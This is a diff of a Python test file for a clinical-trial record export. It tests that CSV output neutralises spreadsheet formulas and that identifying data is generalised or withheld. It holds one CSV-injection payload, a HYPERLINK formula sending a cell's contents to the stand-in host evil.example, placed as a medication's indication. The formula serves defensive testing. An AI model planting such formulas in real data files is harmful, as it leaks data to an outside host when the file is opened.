@@ -23,7 +23,7 @@ from psotrial.jsoncodec import loads_exact
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"details")'
 CONMED = {
     "name": "Loratadine",
-    "indication": "pruritus",
+    "indication": HYPERLINK,
     "dose": 10.5,
     "dose_unit": "mg",
     "route": "oral",
@@ -33,10 +33,10 @@ CONMED = {
 
 
 def populate(trial: Any, session: Any) -> None:
-    """An enrolled participant (weight 74.9, a formula as investigator) and a candidate."""
+    """An enrolled participant (weight 74.9, a formula as a medication's indication) and a
+    candidate."""
     forms = trial.screening_forms()
     forms["vital_signs"]["weight_kg"] = 74.9
-    forms["eligibility_confirmation"]["investigator"] = HYPERLINK
     participant = trial.screen(session, forms)
     enrol(
         session,
@@ -112,8 +112,9 @@ def test_export_records_csv_one_file_per_form_with_exact_values(trial: Any, tmp_
         ("GZ01-S002", "GZ01", "SCR", "0", "complete", "1", "61.5", "36.6"),
     ]
     demographics = read_csv(out / "demographics.csv")[0]
+    # Born 1981-07-09: generalised to the same age (44) on the screening date, 2026-02-23.
     assert (demographics["birth_date"], demographics["sex"], demographics["height_cm"]) == (
-        "1981-07-09",
+        "1982-02-23",
         "F",
         "162",
     )
@@ -166,18 +167,21 @@ def test_export_records_jsonl_keeps_types_and_column_order(trial: Any, tmp_path:
         therapies["systemic_last_date"],
         therapies["other_trial_current"],
     ) == ("2026-01-10", None, False)
-    confirmation = json.loads(
-        (tmp_path / "eligibility_confirmation.jsonl").read_text(encoding="utf-8").splitlines()[0]
+    conmed = json.loads(
+        (tmp_path / "concomitant_medication.jsonl").read_text(encoding="utf-8").splitlines()[0]
     )
-    assert confirmation["investigator"] == HYPERLINK  # JSON Lines is not run by spreadsheets
+    assert conmed["indication"] == HYPERLINK  # JSON Lines is not run by spreadsheets
 
 
 def test_export_records_csv_neutralises_formulas(trial: Any, tmp_path: Path) -> None:
     with trial.session() as session:
         populate(trial, session)
         export(trial, session, tmp_path, "csv")
-    rows = read_csv(tmp_path / "eligibility_confirmation.csv")
-    assert [r["investigator"] for r in rows] == ["'" + HYPERLINK, "Investigator A (synthetic)"]
+    rows = read_csv(tmp_path / "concomitant_medication.csv")
+    assert [r["indication"] for r in rows] == ["'" + HYPERLINK]
+    # The investigator's name is withheld (psotrial.capture.deidentify.IDENTIFYING_ITEMS).
+    confirmations = read_csv(tmp_path / "eligibility_confirmation.csv")
+    assert {r["investigator"] for r in confirmations} == {"withheld on export"}
 
 
 def test_export_records_is_an_audit_event(trial: Any, tmp_path: Path) -> None:
@@ -191,6 +195,7 @@ def test_export_records_is_an_audit_event(trial: Any, tmp_path: Path) -> None:
             "format": "jsonl",
             "files": [p.name for p in paths],
             "rows": rows,
+            "masked": 0,
         }
         assert verify_audit(session).ok
 
